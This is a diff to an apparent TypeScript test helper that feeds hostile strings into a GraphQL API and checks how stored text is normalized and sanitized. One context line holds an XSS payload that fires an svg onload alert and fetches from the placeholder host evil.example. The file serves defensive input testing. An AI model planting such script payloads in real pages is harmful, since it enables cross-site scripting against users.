@@ -1,5 +1,7 @@
 import { getNamedType, isInputObjectType, isListType, isNonNullType, type GraphQLInputType, type GraphQLSchema } from 'graphql';
 
+import { richText } from '#platform/text/rich-text';
+
 /** Texts known to break software, each around a `mark` by which it is found again. */
 export const HOSTILE: Readonly<Record<string, (mark: string) => string>> = {
   'a script': (mark) => `${mark}</title><svg/onload=alert(1)><script>fetch("//evil.example")</script>`,
@@ -74,14 +76,27 @@ export function textsIn(value: unknown): string[] {
 const HIDDEN = /[\u200B\u2060\uFEFF\u202A-\u202E\u2066-\u2069]/gu;
 
 /** Texts that others read in mails, lists and on public pages: without invisible characters. */
-const NAMES = /(^|\.)(firstName|lastName|orgName)$|^(create|update)(Artist|Venue) input\.(name|genres\[\]|address\.address1)$/;
+const NAMES =
+  /(^|\.)(firstName|lastName|orgName)$|^(create|update)(Artist|Venue) input\.(name|genres\[\]|address\.address1|contacts\[\]\.(name|role)|pressKits\[\]\.title|venueGlobalId|willCallInstructions)$/;
+
+/** HTML, which is sanitized. */
+const HTML = /\.description$/;
 
 /**
  * The allowed stored forms of a text at a place: unchanged, or normalized by its rule: trimmed, line breaks, tabs and control characters as
- * spaces, and runs of spaces as one or (names of organizations) as five; names always without hidden characters.
+ * spaces, or each line trimmed, and runs of spaces as one or (names of organizations) as five; names always without hidden characters.
  */
 export function tidied(sent: string, place: string): string[] {
+  if (HTML.test(place)) return [richText(sent) ?? ''];
   const text = NAMES.test(place) ? sent.replaceAll(HIDDEN, '') : sent;
   const spaces = text.replaceAll(/[\s\p{Cc}]/gu, ' ');
-  return [text, text.trim(), spaces.trim(), spaces.replaceAll(/ {6,}/g, '     ').trim(), spaces.replaceAll(/ +/g, ' ').trim()];
+  const trimmed = text.split('\n').map((line) => line.trimEnd());
+  return [
+    text,
+    text.trim(),
+    trimmed.join('\n').trim(),
+    spaces.trim(),
+    spaces.replaceAll(/ {6,}/g, '     ').trim(),
+    spaces.replaceAll(/ +/g, ' ').trim(),
+  ];
 }
